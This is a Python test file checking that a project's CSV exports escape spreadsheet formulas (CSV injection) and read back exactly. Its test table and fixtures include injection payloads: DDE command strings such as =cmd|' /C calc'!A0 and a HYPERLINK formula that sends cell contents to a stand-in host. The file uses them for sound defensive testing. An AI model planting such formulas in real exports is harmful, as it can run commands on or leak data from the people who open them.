"""CSV injection: a value that a spreadsheet would run as a formula never reaches a CSV the
project writes unescaped, and every such CSV reads back as written (ADR 0028)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from domain.formats import csv_safe
from domain.formats.csv_safe import escape_cell, unescape_cell
from samenloop.cli.main import app
from samenloop.demo.inputs import _split_withdrawals

ROOT = Path(__file__).resolve().parents[2]

# The rule as OWASP writes it, cell by cell: a leading = + - @ TAB CR gets an apostrophe;
# plain numbers do not; apostrophes before such a start get one more (so it can be undone).
TABLE = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=a@b.nl", "'=a@b.nl"),
    ("-Jansen", "'-Jansen"),
    ("'=1+1", "''=1+1"),
    ("-2", "-2"),
    ("+31612345678", "+31612345678"),
    ("-1,5", "-1,5"),
    ("'t Hart", "'t Hart"),
    ("Jansen", "Jansen"),
    ("", ""),
    ("a=b", "a=b"),
]


@pytest.mark.parametrize(("value", "written"), TABLE)
def test_the_escaping_rule(value: str, written: str) -> None:
    assert escape_cell(value) == written
    assert unescape_cell(written) == value


def test_no_module_writes_csv_but_through_csv_safe() -> None:
    """Every CSV writer of the code base (found by this scan, not by a list)."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
    offenders = []
    for folder in ("crypto", "domain", "policies", "services", "samenloop", "bench", "examples",
                   "fuzz"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "domain" / "formats" / "csv_safe.py" or "/v1/" in str(path):
                continue
            if pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run, read with Python's own csv module (not ours)."""
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
    number = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row
            if cell and cell[0] in "=+-@\t\r" and not number.fullmatch(cell)]


def test_gateway_check_writes_a_normalised_csv_without_formulas_that_reads_back(
        tmp_path: Path) -> None:
    day = (date.today() - timedelta(days=3)).isoformat()
    export = tmp_path / "export.csv"
    export.write_text(
        "signal_id,signal_type,observed_on,purpose,bsn,postcode,huisnummer,geslachtsnaam,"
        "contactpersoon,email,telefoon\n"
        f"h-1,huurachterstand,{day},wgs-vroegsignalering,999990007,3072AB,14,-Jansen,"
        "-Pietersen,=a@b.nl,+31612345678\n"
        f"h-2,huurachterstand,{day},wgs-vroegsignalering,999990019,3072AB,16,Bakker,,"
        "+a@b.nl,0612345678\n", encoding="utf-8")
    out = tmp_path / "normalised.csv"
    result = CliRunner().invoke(app, ["gateway", "check", str(export), "--normalised", str(out),
                                      "--partner-kind", "housing"])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert "'-Jansen" in text and "'=a@b.nl" in text and ",+31612345678" in text
    again = tmp_path / "again.csv"
    result = CliRunner().invoke(app, ["gateway", "check", str(out), "--normalised", str(again),
                                      "--partner-kind", "housing"])
    assert result.exit_code == 0, result.output
    assert again.read_text(encoding="utf-8") == text  # the values read back exactly


def test_the_demos_split_withdrawals_are_escaped(tmp_path: Path) -> None:
    source = tmp_path / "withdrawals.csv"
    source.write_text("partner_kind,signal_id,reason\n"
                      "housing,=cmd|' /C calc'!A0,@SUM(1)\n", encoding="utf-8")
    [export] = _split_withdrawals(source, tmp_path / "out")
    text = export.path.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert "'=cmd|' /C calc'!A0" in text


def test_dict_writer_quotes_line_breaks_whatever_the_line_terminator() -> None:
    buffer = io.StringIO()
    writer = csv_safe.DictWriter(buffer, ["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": "x\ry", "b": None})
    assert buffer.getvalue() == 'a,b\n"x\ry",""\n'
